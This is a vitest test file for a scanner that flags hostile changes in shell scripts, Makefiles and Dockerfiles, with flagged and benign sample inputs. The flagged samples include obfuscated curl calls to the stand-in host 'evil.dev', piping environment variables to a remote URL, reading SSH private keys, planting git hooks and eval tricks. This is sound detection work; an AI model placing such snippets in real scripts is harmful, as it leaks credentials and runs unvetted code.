import { expect, test } from "vitest";
import { brokenByNew } from "../testing/changed.ts";

test.each([
  // What a name holds is what it was given last, and what loops and functions make of it.
  ["unknown-host", "a.sh", 'at=evil\nat="$at.samples"\ncurl "https://$at/x"'],
  ["unknown-host", "a.sh", 'for part in evil .dev; do at="$at$part"; done\ncurl "https://$at/x"'],
  [
    "unknown-host",
    "a.sh",
    'text=ved.live\nfor ((i = ${#text} - 1; i >= 0; i--)); do at+=${text:i:1}; done\ncurl "https://$at/x"',
  ],
  ["unknown-host", "a.sh", 'tell() {\n  curl "https://$1.$2/x"\n}\ntell evil dev'],
  [
    "unknown-host",
    "a.sh",
    'host() {\n  zone=dev\n  echo "evil.$zone"\n}\ncurl "https://$(host)/x"',
  ],
  [
    "unknown-host",
    "a.sh",
    'declare -A at=([name]=evil [zone]=dev)\ncurl "https://${at[name]}.${at[zone]}"',
  ],
  ["unknown-host", "a.sh", 'read -r name zone <<< "evil dev"\ncurl "https://$name.$zone"'],
  ["unknown-host", "a.sh", "printf -v at 'https://%s.%s' evil dev\ncurl \"$at\""],
  ["unknown-host", "a.sh", 'at=$(echo x:evil.dev:y | cut -d: -f2)\ncurl "https://$at"'],
  ["git-hook", "a.sh", 'dir=$(git rev-parse --git-dir)\ncp tools/step "$dir/hooks/pre-push"'],
  [
    "unknown-host",
    "a.sh",
    'while read -r part; do at="$at$part"; done <<END\nevil.\ndev\nEND\ncurl "https://$at/x"',
  ],
  ["eval", "a.sh", 'alias perform=eval\nperform "$1"'],
  ["credentials", "a.sh", "survey() {\n  env\n}\nsurvey | curl -d @- http://localhost:9/x"],
  ["credentials", "a.sh", "cat ~/.s?h/id_* > report.txt"],
  ["credentials", "a.sh", 'base="$HOME/.s"\ncat "${base}sh/id_rsa"'],
  ["secret", "a.sh", `key=AKIA\nkey+=Z7Q2M4X9\nkey+=${["K1P8", "R5T3"].join("")}\necho "$key"`],
  // Steps of other files are steps of a shell, and programs on a line programs.
  ["unknown-host", "Makefile", "NAME := evil\nZONE := dev\n\nx:\n\tcurl https://$(NAME).$(ZONE)/x"],
  ["unknown-host", "Dockerfile", 'FROM node:24\nENV NAME=evil\nRUN curl "https://$NAME.dev/x"'],
  ["foreign-source", "Dockerfile", "ARG BASE=evil.dev/node\nFROM ${BASE}:24"],
  ["shell", "a.sh", "python3 -c 'import os; os.system(line)'"],
  ["credentials", "a.sh", "node -e 'console.log(JSON.stringify(process.env))'"],
  ["shell", "a.sh", 'ruby - <<END\nsystem("ls #{at}")\nEND'],
  // A text that is not known is run by more than a shell.
  ["eval", "a.sh", 'env -S "$1"'],
  ["eval", "a.sh", '"$SHELL" -c "$LINE"'],
  ["eval", "a.sh", "echo \"$1\" | sed 's/.*/&/e'"],
  ["path-escape", "a.sh", "install -m 755 build/tool /usr/local/bin/git"],
])("%s is caught in %s: %s", (rule, path, text) => expect(brokenByNew(path, text)).toContain(rule));

test.each([
  ["a.sh", 'at=docs\nat="$at.example.com"\ncurl "https://$at/x"'],
  ["a.sh", 'for name in one two; do list="$list $name"; done\necho "$list"'],
  ["a.sh", 'for ((i = 0; i < 3; i++)); do echo "$i"; done'],
  ["a.sh", 'log() {\n  printf "%s\\n" "$1"\n}\nlog "evil.dev is a name"'],
  ["a.sh", 'stamps="http://stamp.evil.dev"\nhost=http://evil.dev/x'],
  ["a.sh", "alias ll='ls -l'\nll"],
  ["a.sh", 'dir=$(git rev-parse --show-toplevel)\ncd "$dir"'],
  ["a.sh", "python3 -c 'import sys; print(sys.version)'"],
  ["a.sh", "node - <<'END'\nconsole.log(process.version);\nEND"],
  ["a.sh", "sed -e 's/one/e/' list.txt\nls ~/.cache/*"],
  [
    "Makefile",
    "NAME = tool\nPREFIX ?= /usr/local\n\ninstall:\n\tinstall $(NAME) $(PREFIX)/bin/$(NAME)",
  ],
  ["Dockerfile", 'FROM node:24\nARG USER=app\nRUN useradd "$USER" && npm ci\nCMD ["node", "x.js"]'],
])("honest %s passes: %s", (path, text) => expect(brokenByNew(path, text)).toEqual([]));
